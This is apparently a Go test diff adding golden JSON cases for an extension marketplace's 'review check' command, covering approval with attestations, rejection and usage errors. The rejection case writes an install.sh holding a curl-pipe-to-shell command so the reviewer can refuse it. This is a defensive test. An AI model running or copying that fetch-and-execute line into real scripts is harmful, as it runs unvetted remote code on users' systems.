@@ -69,7 +69,7 @@ func TestJSONOutputOfServerCommandsThroughMkt(t *testing.T) {
 	inProcess = nil
 	defer func() { inProcess = servercmd.Commands{} }()
 	for _, c := range goldenCases(t) {
-		if !strings.HasPrefix(c.command, "index serve") && !strings.HasPrefix(c.command, "index token ") && c.command != "index statements" && c.command != "dev up" {
+		if !strings.HasPrefix(c.command, "index serve") && !strings.HasPrefix(c.command, "index token ") && c.command != "index statements" && c.command != "dev up" && c.command != "review check" {
 			continue
 		}
 		t.Run(c.name(), func(t *testing.T) { checkGolden(t, c) })
@@ -541,6 +541,29 @@ func goldenCaseList(a goldenArgs) []jsonCase {
 		{command: "index statements", variant: "close-usage", args: []string{"index", "statements", "--config", a.indexConfig, "--period", "2026-11", "--close"}, code: 2},
 		{command: "index serve", variant: "ok", args: []string{"index", "serve", "--config", a.indexConfig}, code: 0, background: true, ready: serveReady},
 		{command: "index serve", variant: "no-config", args: []string{"index", "serve", "--config", filepath.Join(a.tmp, "none.yaml")}, code: 1},
+		{command: "review check", variant: "ok", args: []string{"review", "check", "--plain-http", a.reg + "/gold/reviewed:0.1.0", "--attest", "--key", a.key}, code: 0,
+			before: func(t *testing.T) {
+				if _, err := os.Stat(a.key); err != nil {
+					mustMkt(t, "key", "generate", "--output-prefix", strings.TrimSuffix(a.key, ".key"))
+				}
+				mustMkt(t, "push", "--plain-http", a.reg+"/gold/reviewed", reviewExt(t, a, "reviewed"))
+			},
+			check: func(t *testing.T, doc map[string]any) {
+				if doc["result"] != "approved" || len(doc["attestations"].([]any)) != 2 {
+					t.Fatalf("want approved with the review and the SBOM attested: %v", doc)
+				}
+			}},
+		{command: "review check", variant: "rejected", args: []string{"review", "check", filepath.Join(a.tmp, "risky")}, code: 1,
+			before: func(t *testing.T) {
+				risky := reviewExt(t, a, "risky")
+				os.WriteFile(filepath.Join(risky, "install.sh"), []byte("#!/bin/sh\ncurl https://example.com/x | sh\n"), 0o755)
+			},
+			check: func(t *testing.T, doc map[string]any) {
+				if doc["result"] != "rejected" || !strings.Contains(fmt.Sprint(doc["checks"]), "install.sh") {
+					t.Fatalf("a rejection's document lacks its report and the script it refused: %v", doc)
+				}
+			}},
+		{command: "review check", variant: "usage", args: []string{"review", "check", a.tmp, "--stage", "galaxy"}, code: 2},
 		{command: "dev", variant: "no-subcommand", args: []string{"dev"}, code: 2},
 		{command: "dev up", variant: "ok", args: []string{"dev", "up", "--listen", "127.0.0.1:0", "--index-listen", "127.0.0.1:0", "--dev-dir", a.devDir}, code: 0, background: true, ready: devReady},
 		{command: "dev up", variant: "busy", args: []string{"dev", "up", "--listen", a.busy, "--no-index"}, code: 1},
@@ -565,6 +588,16 @@ func goldenCaseList(a goldenArgs) []jsonCase {
 		{command: "yank", variant: "ok", args: []string{"yank", "--plain-http", ref + ":0.1.0", "--key", a.key, "--reason", "CVE-2026-1234"}, code: 0},
 		{command: "yank", variant: "usage", args: []string{"yank", "--plain-http", ref + ":0.1.0", "--reason", "CVE-2026-1234"}, code: 2},
 	}
+}
+
+// reviewExt makes the starter extension gold/crm in a.tmp/name once, for
+// the review check cases, which also run alone (through mkt-server).
+func reviewExt(t *testing.T, a goldenArgs, name string) string {
+	dir := filepath.Join(a.tmp, name)
+	if _, err := os.Stat(dir); err != nil {
+		mustMkt(t, "init", dir, "--kind", "connector", "--name", "gold/crm")
+	}
+	return dir
 }
 
 // readListen reads the listen address of an index configuration.
